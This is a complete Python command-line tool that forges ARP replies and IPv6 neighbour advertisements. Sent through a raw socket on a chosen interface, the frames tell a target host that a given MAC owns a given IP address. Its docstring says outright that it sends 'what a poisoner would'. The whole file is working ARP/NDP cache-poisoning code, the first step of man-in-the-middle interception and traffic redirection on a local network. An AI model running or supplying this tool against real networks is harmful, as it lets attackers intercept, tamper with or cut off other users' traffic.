#!/usr/bin/env python3
"""Sends what a poisoner would: an ARP reply or a neighbour advertisement that says MAC has ADDRESS.

    neighbour.py INTERFACE MAC ADDRESS TO-MAC TO-ADDRESS [TIMES [PAUSE]]

IPv4 by ARP, IPv6 by an advertisement that overrides; the frame's own source is MAC, too.
"""
import ipaddress
import socket
import struct
import sys
import time


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def arp(of, address, to, asker):
    message = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + of + address + to + asker
    return to + of + b"\x08\x06" + message + bytes(18)


def advertisement(of, address, to, asker):
    body = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + address + b"\x02\x01" + of
    pseudo = address + asker + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return (to + of + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + address +
            asker + body)


def main():
    interface, of, address, to, asker = sys.argv[1:6]
    times, pause = int((sys.argv[6:] or [1])[0]), float((sys.argv[7:] or [0.2])[0])
    make = advertisement if ":" in address else arp
    frame = make(mac(of), ipaddress.ip_address(address).packed, mac(to),
                 ipaddress.ip_address(asker).packed)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, 0))
        for _ in range(times):
            wire.send(frame)
            time.sleep(pause)


if __name__ == "__main__":
    main()
